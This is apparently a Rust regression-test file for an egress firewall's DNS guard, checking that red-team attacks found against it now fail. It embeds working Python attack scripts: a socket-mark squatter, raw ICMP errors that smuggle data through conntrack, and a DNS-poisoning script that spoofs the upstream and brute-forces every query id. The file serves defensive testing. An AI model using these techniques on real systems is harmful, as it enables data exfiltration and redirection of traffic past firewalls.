            let out = w.adversary_cmd(who, &[PYTHON, "-c", &script, &up, family]);
            assert!(
                out.stdout.contains("guard answered") && out.stdout.contains("scan done"),
                "{who:?} via {upstream}: the scan did not run:\n{out}"
            );
            let asked = w.dns_query_log().split_off(before);
            let leaked: Vec<&DnsQuery> =
                asked.iter().filter(|q| q.name.contains("exfil")).collect();
            assert!(
                leaked.is_empty() && !out.stdout.contains("LEAK"),
                "{who:?} asked the upstream {upstream} through the guard's old flow: \
                 {leaked:?}\n{out}"
            );
            for tcp in [false, true] {
                assert!(
                    guard_answers(
                        &w,
                        Who::Adversary(Adversary::Nobody),
                        "via-guard.pool.example",
                        tcp
                    ),
                    "the guard still answers (tcp: {tcp}, upstream {upstream}):\n{}",
                    guard.stderr()
                );
            }
        }
    }
}

/// A uid of its own for the guard (systemd's DynamicUser= range; no user has it here).
const GUARD_UID: u32 = 61_234;

/// `egress-fence run POLICY` in the sandbox as uid and gid [`GUARD_UID`] with CAP_NET_ADMIN
/// and CAP_NET_BIND_SERVICE kept as ambient capabilities (like the systemd unit's dynamic
/// user, which tests/systemd.rs models the same way), once its guard serves.
fn spawn_guard_as_its_own_user(w: &World, policy: &str) -> Background {
    let mode = |path: &std::path::Path, mode: u32| {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode))
            .unwrap_or_else(|e| panic!("chmod {}: {e}", path.display()));
    };
    // The world's directory is root's (0700): let the guard's user through to its files.
    mode(w.dir(), 0o711);
    let path = w.write_file("guard.yaml", policy);
    mode(&path, 0o644);
    let state = w.dir().join("guard-state");
    std::fs::create_dir(&state).expect("create the guard's state directory");
    std::os::unix::fs::chown(&state, Some(GUARD_UID), Some(GUARD_UID))
        .expect("give the state directory to the guard's user");
    mode(&state, 0o700);
    let (uid, caps) = (GUARD_UID.to_string(), "-all,+net_admin,+net_bind_service");
    let (reuid, regid) = (format!("--reuid={uid}"), format!("--regid={uid}"));
    let (inh, ambient) = (
        format!("--inh-caps={caps}"),
        format!("--ambient-caps={caps}"),
    );
    let mut guard = w.spawn_in_sandbox(&[
        "setpriv",
        &reuid,
        &regid,
        "--clear-groups",
        &inh,
        &ambient,
        "--",
        EGRESS_FENCE_BIN,
        "run",
        path.to_str().expect("utf-8 path"),
        "--state-dir",
        state.to_str().expect("utf-8 path"),
    ]);
    if !guard.wait_for_output("the DNS guard is serving", Duration::from_secs(10)) {
        let _ = guard.terminate();
        panic!("the guard did not start as uid {uid}:\n{}", guard.stderr());
    }
    guard
}

/// Red team 2, F2: since Linux 5.17 CAP_NET_RAW is enough to set `SO_MARK`, so root in a
/// container with Docker's default capabilities (no CAP_NET_ADMIN) binds the guard's address
/// while the daemon is down (SIGKILL: its table stays), sets the guard's mark on its sockets
/// and answers the clients; the rule on the guard's port checked the mark only. The guard
/// runs under a uid of its own here (as the systemd unit's dynamic user does), and the table
/// also refuses what leaves its port from another uid's socket: nobody's dig gets no answer
/// from the squatter, over UDP or TCP, while the guard itself answered both before. (Were
/// the guard root, the uid could not tell it from root in a container: README, "Only the
/// guard may answer".) On the old main the client took the squatter's 203.0.113.66.
#[test]
fn a_squatter_that_sets_the_guards_mark_answers_nobody() {
    let w = World::new();
    let _upstream = slow_upstream(&w, HOST3_V4);
    let mut guard = spawn_guard_as_its_own_user(&w, &guard_policy(&[HOST3_V4]));
    for tcp in [false, true] {
        assert!(
            guard_answers(&w, Who::Adversary(Adversary::Nobody), "a.pool.example", tcp),
            "the guard under uid {GUARD_UID} answers (tcp: {tcp}) despite the uid rule:\n{}",
            guard.stderr()
        );
    }
    guard.signal(nix::sys::signal::Signal::SIGKILL);
    assert!(
        guard.wait_timeout(Duration::from_secs(5)).is_some(),
        "the guard did not die"
    );
    assert!(w.table_handle().is_some(), "the guard's table stays");
    let chain = w.sandbox_cmd(&["nft", "list", "chain", "inet", "egress_fence", "output"]);
    assert!(
        chain
            .stdout
            .contains(&format!("meta mark 0x65000000 meta skuid {GUARD_UID} ")),
        "the table names the guard's own uid:\n{chain}"
    );
    // The squatter of the test above, with the guard's mark on both of its sockets.
    let marked = SQUATTER
        .replace(
            "u.bind(",
            "u.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 0x65000000)\nu.bind(",
        )
        .replace(
            "t.bind(",
            "t.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 0x65000000)\nt.bind(",
        );
    assert_eq!(marked.matches("SO_MARK").count(), 2);
    let script = format!("{REFUSE_CAP_NET_ADMIN_PY}{marked}");
    let mut squatter = w.spawn_adversary(Adversary::RootWithoutNetAdmin, &[PYTHON, "-c", &script]);
    assert!(
        squatter.wait_for_output("squatting", Duration::from_secs(10)),
        "the squatter did not set the mark or bind: {}",
        squatter.stderr()
    );
    for tcp in [false, true] {
        let out = dig_output(
            &w,
            Who::Adversary(Adversary::Nobody),
            GUARD_ADDR.ip(),
            53,
            "a.pool.example",
            tcp,
        );
        assert!(
            !out.contains("203.0.113.66") && !out.contains("->>HEADER<<-"),
            "nobody (tcp: {tcp}) got the marked squatter's answer:\n{out}"
        );
    }
    assert!(
        squatter.stdout().contains("asked over udp"),
        "the squatter was asked (its answers were refused): {}\n{}",
        squatter.stdout(),
        squatter.stderr()
    );
}

/// Asks the guard an allowed name (so it opens, uses and closes an upstream socket), then
/// writes, from a raw socket, an ICMP port unreachable to the upstream (argv[1]) for each
/// local port in turn, as if the sandbox (argv[2]) could not deliver the upstream's reply to
/// it: the one for the guard's old port is related to its flow in conntrack. Each carries the
/// marker `related-to-the-guard` in the quoted datagram's data, about 1 KB. Prints
/// `sent N refused M`. Needs CAP_NET_RAW (root in a container keeps it).
const RELATED_ICMP: &str = concat!(
    crate::inet_checksum_py!(),
    r#"
import socket, struct
if not cap_eff & (1 << 13):
    sys.exit('want CAP_NET_RAW without CAP_NET_ADMIN, have %x' % cap_eff)
upstream, me = sys.argv[1], sys.argv[2]
def q(name, qid):
    qname = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    return struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + qname + struct.pack(">HH", 1, 1)
c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
c.settimeout(3)
c.sendto(q("via-guard.pool.example", 1), ("127.0.0.53", 53))
c.recv(2000)
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
data = b"related-to-the-guard " * 48
lo, hi = map(int, open('/proc/sys/net/ipv4/ip_local_port_range').read().split())
sent = refused = 0
for port in range(lo, hi + 1):
    udp = struct.pack("!HHHH", 53, port, 8 + len(data), 0) + data
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                     socket.inet_aton(upstream), socket.inet_aton(me))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    icmp = struct.pack("!BBHI", 3, 3, 0, 0) + ip + udp
    icmp = icmp[:2] + struct.pack("!H", checksum(icmp)) + icmp[4:]
    try:
        raw.sendto(icmp, (upstream, 0))
        sent += 1
    except PermissionError:
        refused += 1
print('sent', sent, 'refused', refused)
"#
);

/// Red team 2, F1 (its ICMP side): root in a container keeps CAP_NET_RAW and writes ICMP
/// errors; one that quotes the guard's closed upstream flow is `related` to it in conntrack
/// and was accepted as a reply, carrying a kilobyte of the writer's choice to the upstream
/// resolver (and the same works against any peer of any flow in conntrack, e.g. one that
/// connected in). ICMP a process writes leaves only over loopback now, whatever conntrack
/// says of it: none of the errors reaches the upstream's link.
#[test]
fn icmp_errors_related_to_the_guards_flows_stay_in() {
    let w = World::new();
    w.dns_set("via-guard.pool.example", &[HOST2_V4], DEFAULT_DNS_TTL);
    let path = w.write_file("guard.yaml", &guard_policy(&[DNS_V4]));
    let _guard = w.spawn_guard(path.to_str().expect("utf-8 path"));
    let script = format!("{REFUSE_CAP_NET_ADMIN_PY}{RELATED_ICMP}");
    let (up, me) = (DNS_V4.to_string(), SANDBOX_V4.to_string());
    let (capture, written) = w.count_marked_frames(0x0800, "related-to-the-guard", 6, || {
        w.adversary_cmd(
            Adversary::RootWithoutNetAdmin,
            &[PYTHON, "-c", &script, &up, &me],
        )
    });
    assert!(written.success(), "{written}");
    assert!(
        written.stdout.starts_with("sent 0 refused "),
        "an ICMP error left the sandbox: {written}\ncaptured on the upstream's link: {capture}"
    );
    assert!(capture.success(), "{capture}");
    assert_eq!(
        capture.stdout.trim(),
        "0",
        "ICMP errors written by a process reached the upstream's link"
    );
}

/// F1 with CAP_NET_RAW: root in a container sets the guard's mark on every socket it scans
/// with; with the guard under a uid of its own, the uid refusal still keeps it off the
/// guard's old flows (were the guard root, nothing would tell them apart: README, "Only the
/// guard may ask").
#[test]
fn a_marked_scan_does_not_reuse_the_flows_of_a_guard_with_its_own_uid() {
    let w = World::new();
    w.dns_set("via-guard.pool.example", &[HOST2_V4], DEFAULT_DNS_TTL);
    let guard = spawn_guard_as_its_own_user(&w, &guard_policy(&[DNS_V4]));
    let marked = REUSE_GUARD_FLOW.replace(
        "    s = socket.socket(af, socket.SOCK_DGRAM)\n",
        "    s = socket.socket(af, socket.SOCK_DGRAM)\n    \
         s.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 0x65000000)\n",
    );
    assert!(marked.contains("SO_MARK"));
    let script = format!("{REFUSE_CAP_NET_ADMIN_PY}{marked}");
    let before = w.dns_query_log().len();
    let out = w.adversary_cmd(
        Adversary::RootWithoutNetAdmin,
        &[PYTHON, "-c", &script, &DNS_V4.to_string(), "4"],
    );
    assert!(
        out.stdout.contains("scan done"),
        "the scan did not run:\n{out}"
    );
    let asked = w.dns_query_log().split_off(before);
    assert!(
        !asked.iter().any(|q| q.name.contains("exfil")) && !out.stdout.contains("LEAK"),
        "root with the guard's mark asked the upstream through its old flow: {asked:?}\n{out}"
    );
    assert!(
        guard_answers(
            &w,
            Who::Adversary(Adversary::Nobody),
            "via-guard.pool.example",
            false
        ),
        "{}",
        guard.stderr()
    );
}

/// An upstream on `argv[1]` port 53 (UDP) that answers every A question with 192.0.2.11 and
/// notes the source port and the id of each query; after `argv[2]` queries (or 30 s without
/// one) it prints `ports P1 P2 ...` and `ids I1 I2 ...` and exits.
const PORT_NOTING_UPSTREAM: &str = r#"
import socket, struct, sys
addr, want = sys.argv[1], int(sys.argv[2])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((addr, 53))
s.settimeout(30)
print("serving", flush=True)
ports, ids = [], []
try:
    while len(ports) < want:
        q, peer = s.recvfrom(65535)
        if len(q) < 12:
            continue
        ports.append(peer[1])
        ids.append(struct.unpack(">H", q[:2])[0])
        end = 12
        while end < len(q) and q[end] != 0:
            end += q[end] + 1
        header = q[:2] + struct.pack(">HHHHH", 0x8180, 1, 1, 0, 0)
        record = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 60, 4) + bytes([192, 0, 2, 11])
        s.sendto(header + q[12:end + 5] + record, peer)
except socket.timeout:
    pass
print("ports", *ports, flush=True)
print("ids", *ids, flush=True)
"#;

/// Issue 16: the guard opens its upstream UDP sockets ahead of need, and each still serves
/// one exchange: the upstream sees the queries come from as many source ports as there were
/// queries (the kernel's random choice may repeat a closed socket's port now and then; a
/// socket used twice would repeat its port every time), in no sequence, and carry as many
/// ids, in no sequence either (the client's ids are 1000, 1001, ...: an id passed through,
/// or one drawn once per pooled socket and reused, would show). (That a waiting socket
/// something reached is never used is a unit test of `guard::pool`.)
#[test]
fn every_upstream_exchange_comes_from_a_socket_of_its_own() {
    use std::io::BufRead;
    const QUERIES: usize = 40;
    let w = World::new();
    let mut upstream = w
        .net_command(&[PYTHON, "-c", PORT_NOTING_UPSTREAM])
        .arg(HOST3_V4.to_string())
        .arg(QUERIES.to_string())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("start the upstream");
    let mut stdout = std::io::BufReader::new(upstream.stdout.take().expect("piped"));
    let upstream = Spawned(upstream);
    let mut line = String::new();
    stdout
        .read_line(&mut line)
        .expect("the upstream's first line");
    assert_eq!(line.trim(), "serving", "the upstream did not start");
    let path = w.write_file("guard.yaml", &guard_policy(&[HOST3_V4]));
    let guard = w.spawn_guard(path.to_str().expect("utf-8 path"));
    let asked = w.sandbox_cmd_as(
        NOBODY,
        &[
            PYTHON,
            "-c",
            TIMED,
            &QUERIES.to_string(),
            "0",
            "ports.pool.example",
        ],
    );
    let (ms, lost) = latencies(&asked.stdout);
    assert!(
        lost.is_empty() && ms.len() == QUERIES,
        "{asked}\nguard:\n{}",
        guard.stderr()
    );
    let mut numbers = |label: &str| -> Vec<u16> {
        line.clear();
        stdout.read_line(&mut line).expect("the upstream's report");
        line.trim()
            .strip_prefix(label)
            .unwrap_or_else(|| panic!("the upstream printed {line:?}, not its {label}"))
            .split_whitespace()
            .map(|p| p.parse().expect("a number"))
            .collect()
    };
    let ports = numbers("ports");
    let ids = numbers("ids");
    drop(upstream);
    // A fresh socket's port is the kernel's random choice, and a repeat of a closed one's
    // is possible; 16 random bits repeat in 40 draws with a chance of about 1 in 80.
    for (what, seen, repeats) in [("source ports", &ports, 3), ("query ids", &ids, 2)] {
        assert_eq!(seen.len(), QUERIES, "{what}: {seen:?}");
        let distinct: std::collections::BTreeSet<u16> = seen.iter().copied().collect();
        assert!(
            distinct.len() >= QUERIES - repeats,
            "{} {what} for {QUERIES} exchanges: {seen:?}",
            distinct.len()
        );
        let steps = seen.windows(2).filter(|p| p[1].abs_diff(p[0]) <= 1).count();
        assert!(steps <= 2, "the {what} follow a sequence: {seen:?}");
    }
    drop(guard);
}

/// Root in a container that dropped CAP_NET_RAW as the README advises (it keeps binding low
/// ports) answers the guard's upstream question itself: `IPV6_FREEBIND` binds the upstream's
/// address and port 53, the guard's fresh upstream socket (the one opened after the asker
/// touched those waiting: each touched one is closed unused) is found in /proc/net/udp6,
/// and every query id is tried before the upstream (silent here) answers. The forged AAAA
/// for an exact allowed name goes into the table: a connection to any address. Arguments:
/// UPSTREAM NAME TARGET. Prints `answered` if the guard released an answer with TARGET,
/// then `connected` if TARGET's port 443 took a connection.
const POISON: &str = r#"
import socket, struct, sys, time
up, name, target = sys.argv[1], sys.argv[2], sys.argv[3]
def hexaddr(a):
    raw = socket.inet_pton(socket.AF_INET6, a)
    return ''.join('%08X' % struct.unpack('<I', raw[i:i + 4])[0] for i in range(0, 16, 4))
def unhex(h):
    raw = b''.join(struct.pack('<I', int(h[i:i + 8], 16)) for i in range(0, 32, 8))
    return socket.inet_ntop(socket.AF_INET6, raw)
upstream = hexaddr(up) + ':0035'
def to_upstream():
    found = {}
    for line in open('/proc/net/udp6').read().splitlines()[1:]:
        f = line.split()
        if f[2] == upstream:
            addr, port = f[1].split(':')
            found[int(f[9])] = (unhex(addr), int(port, 16))
    return found
spoof = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
spoof.setsockopt(socket.IPPROTO_IPV6, 78, 1)  # IPV6_FREEBIND
spoof.bind((up, 53))
def send(packet, to):
    try:
        spoof.sendto(packet, to)
        return True
    except PermissionError:
        return False
waiting = to_upstream()
for to in waiting.values():
    send(b'x', to)
time.sleep(0.2)
qname = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0'
question = qname + struct.pack('>HH', 28, 1)
client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
client.sendto(struct.pack('>HHHHHH', 0x4242, 0x0100, 1, 0, 0, 0) + question, ('127.0.0.53', 53))
time.sleep(0.05)
fresh = {i: to for i, to in to_upstream().items() if i not in waiting}
record = b'\xc0\x0c' + struct.pack('>HHIH', 28, 1, 60, 16) + socket.inet_pton(socket.AF_INET6, target)
body = struct.pack('>HHHH', 1, 1, 0, 0) + question + record
sent = 0
for i in sorted(fresh)[:2]:
    for qid in range(65536):
        sent += send(struct.pack('>HH', qid, 0x8180) + body, fresh[i])
print('fresh sockets', len(fresh), 'forged answers sent', sent, flush=True)
client.settimeout(5)
try:
    reply = client.recv(4096)
    if socket.inet_pton(socket.AF_INET6, target) in reply:
        print('answered', flush=True)
except socket.timeout:
    print('no reply', flush=True)
tcp = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
tcp.settimeout(3)
try:
    tcp.connect((target, 443))
    print('connected', flush=True)
except OSError as e:
    print('refused', e, flush=True)
"#;

/// Red team round 4: the guard's answers come from its upstream only. Root in a container
/// without CAP_NET_ADMIN or CAP_NET_RAW forges the upstream's answer from the upstream's own
/// address (`IPV6_FREEBIND`) to the guard's upstream socket on this host: on main it passed
/// as loopback traffic, and its address for an exact allowed name went into the table.
#[test]
fn nobody_in_the_fence_answers_for_the_guards_upstream() {
    let w = World::new();
    // The upstream hears the question and stays silent (it echoes the query, no answer).
    let _silent = w.listen_udp(HOST2_V6, 53);
    let target = w.listen_tcp(OTHER_V6, 443);
    let policy = format!(
        "version: 1\nallow:\n  - domain: api.example\n    ports: [443]\ndns:\n  mode: guard\n  \
         listen: [\"{GUARD_ADDR}\"]\n  upstream: [\"{HOST2_V6}\"]\n"
    );
    let path = w.write_file("guard.yaml", &policy);
    let guard = w.spawn_guard(path.to_str().expect("utf-8 path"));
    let (up, to) = (HOST2_V6.to_string(), OTHER_V6.to_string());
    let out = w.adversary_cmd(
        Adversary::RootWithoutNetAdminOrNetRaw,
        &[PYTHON, "-c", POISON, &up, "api.example", &to],
    );
    assert!(out.success(), "{out}");
    // The attack reached its forging step with a socket of the guard's to aim at: otherwise
    // nothing below could fail.
    let aimed_at = out
        .stdout
        .lines()
        .find_map(|l| l.strip_prefix("fresh sockets "))
        .and_then(|rest| rest.split_whitespace().next()?.parse::<usize>().ok());
    assert!(aimed_at.is_some_and(|n| n > 0), "{out}");
    assert!(
        !out.stdout.contains("answered") && !out.stdout.contains("connected"),
        "the guard took a forged upstream answer:\n{out}\nguard:\n{}",
        guard.stderr()
    );
    assert_eq!(target.count(), 0, "{OTHER_V6} port 443 was reached");
}
